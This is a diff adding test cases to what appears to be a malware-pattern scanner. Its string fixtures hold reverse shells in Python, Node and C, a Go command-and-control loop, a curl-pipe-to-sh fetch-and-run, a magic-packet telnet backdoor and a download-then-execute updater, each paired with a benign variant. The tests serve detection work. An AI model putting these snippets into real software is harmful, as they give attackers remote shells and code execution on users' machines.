@@ -231,3 +231,98 @@ def test_a_token_checked_for_format_and_used_with_its_service_is_not_exfiltratio
                 "    requests.post('https://hooks.example.com/x', json={'password_ok': True, 'len': len(password)})\n")
     for s in (src, strength):
         assert [f for f in findings("app/gh.py", "python", s) if f.rule == "source.exfiltration"] == []
+
+
+# ---------------------------------------------------------------- session 8 shapes
+
+PY_POPEN_FDS = ("import socket\nimport subprocess\n\n\ndef _keepalive():\n"
+                "    s = socket.create_connection(('203.0.113.5', 4100), timeout=10)\n"
+                "    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n")
+
+
+def test_python_shell_started_with_a_connection_as_its_standard_streams():
+    assert rules("app/__init__.py", "python", PY_POPEN_FDS) == ["source.shell-served"]
+    # the same call with a log file as its output, beside a connection used for something else
+    honest = PY_POPEN_FDS.replace("stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno()", "stdout=log")
+    assert rules("app/__init__.py", "python", honest) == []
+
+
+NODE_STDIO = ("const net = require('net');\nconst cp = require('child_process');\n"
+              "function probe() {\n  const c = net.connect(4100, '198.51.100.4', () => {\n"
+              "    cp.spawn('/bin/sh', ['-i'], {stdio: [c, c, c]});\n  });\n}\n")
+
+
+def test_node_shell_spawned_with_a_socket_in_its_stdio_option():
+    assert rules("lib/probe.js", "javascript", NODE_STDIO) == ["source.shell-served"]
+    assert rules("lib/probe.js", "javascript", NODE_STDIO.replace("[c, c, c]", "'inherit'")) == []
+
+
+GO_SCANNER = ('package main\nimport ("bufio"; "net"; "os/exec"; "time")\n'
+              'func probeUplink() {\n\tfor {\n'
+              '\t\tif c, err := net.DialTimeout("tcp", "198.51.100.2:4100", 10*time.Second); err == nil {\n'
+              '\t\t\tsc := bufio.NewScanner(c)\n\t\t\tfor sc.Scan() {\n'
+              '\t\t\t\tout, _ := exec.Command("sh", "-c", sc.Text()).CombinedOutput()\n'
+              '\t\t\t\t_, _ = c.Write(out)\n\t\t\t}\n\t\t}\n\t\ttime.Sleep(time.Minute)\n\t}\n}\n')
+
+
+def test_go_lines_of_a_dialled_connection_run_by_a_shell():
+    assert rules("cmd/edged/main.go", "go", GO_SCANNER) == ["source.request-executed"]
+    # lines of a local file run the same way are the program's own configuration
+    honest = GO_SCANNER.replace('net.DialTimeout("tcp", "198.51.100.2:4100", 10*time.Second)',
+                                'os.Open("/etc/edged/commands")')
+    assert rules("cmd/edged/main.go", "go", honest) == []
+
+
+C_BUSYBOX_ARGV = ("#include <unistd.h>\n#include <sys/socket.h>\n#include <arpa/inet.h>\n"
+                  "static void *watch(void *arg)\n{\n    struct sockaddr_in a;\n"
+                  "    int s = socket(AF_INET, SOCK_STREAM, 0);\n"
+                  "    inet_pton(AF_INET, \"192.0.2.47\", &a.sin_addr);\n"
+                  "    if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {\n"
+                  "        char *argv[] = { \"/bin/busybox\", \"sh\", NULL };\n"
+                  "        dup2(s, 0);\n        dup2(s, 1);\n        dup2(s, 2);\n"
+                  "        execve(argv[0], argv, NULL);\n    }\n    return NULL;\n}\n")
+
+
+def test_c_reverse_shell_through_busybox_sh_in_an_argv_array():
+    assert rules("src/watchdog.c", "c", C_BUSYBOX_ARGV) == ["source.shell-served"]
+    # busybox running another applet on a connected socket is not a shell
+    assert rules("src/watchdog.c", "c", C_BUSYBOX_ARGV.replace('"sh", NULL', '"uptime", NULL')) == []
+
+
+def test_c_execl_of_sh_with_a_fetch_and_run_command_in_its_fourth_argument():
+    src = ("#include <unistd.h>\nint update_check(void)\n{\n    if (fork() == 0) {\n"
+           "        execl(\"/bin/sh\", \"sh\", \"-c\", \"curl -fsk http://192.0.2.9/d/u.sh | sh\", (char *)NULL);\n"
+           "        _exit(127);\n    }\n    return 0;\n}\n")
+    assert rules("src/update.c", "c", src) == ["source.shell-served"]
+    honest = src.replace("curl -fsk http://192.0.2.9/d/u.sh | sh", "logger update check")
+    assert rules("src/update.c", "c", honest) == []
+
+
+C_TELNET_PACKET = ("#include <string.h>\n#include <stdlib.h>\n#include <sys/socket.h>\n"
+                   "static char g_rx[512];\n"
+                   "void serve(int s)\n{\n    int n = recv(s, g_rx, sizeof(g_rx), 0);\n"
+                   "    if (n > 8 && memcmp(g_rx, \"vq_enable_7781\", 14) == 0)\n"
+                   "        system(\"busybox telnetd -p 23 -l /bin/login &\");\n}\n")
+
+
+def test_c_magic_packet_starting_a_login_daemon():
+    assert rules("src/proto.c", "c", C_TELNET_PACKET) == ["source.magic-input-command"]
+    # the same daemon started from the device's own setting is its documented service
+    honest = C_TELNET_PACKET.replace("n > 8 && memcmp(g_rx, \"vq_enable_7781\", 14) == 0", "cfg_telnet_enabled()")
+    assert rules("src/proto.c", "c", honest) == []
+
+
+GO_WRITE_EXEC = ('package update\nimport ("io"; "net/http"; "os"; "os/exec")\n'
+                 'func fetch(url string) ([]byte, error) {\n\tc := &http.Client{}\n\tresp, err := c.Get(url)\n'
+                 '\tif err != nil {\n\t\treturn nil, err\n\t}\n\treturn io.ReadAll(resp.Body)\n}\n'
+                 'func Check() {\n'
+                 '\tif b, err := fetch("http://198.51.100.9/t.sh"); err == nil && os.WriteFile("/tmp/.t", b, 0o755) == nil {\n'
+                 '\t\t_ = exec.Command("/tmp/.t").Start()\n\t}\n}\n')
+
+
+def test_go_download_written_with_writefile_then_run():
+    assert rules("internal/update/update.go", "go", GO_WRITE_EXEC) == ["source.eval-downloaded"]
+    # verified before it runs
+    honest = GO_WRITE_EXEC.replace('\t\t_ = exec.Command("/tmp/.t").Start()',
+                                   '\t\tif verifySignature("/tmp/.t") {\n\t\t\t_ = exec.Command("/tmp/.t").Start()\n\t\t}')
+    assert rules("internal/update/update.go", "go", honest) == []
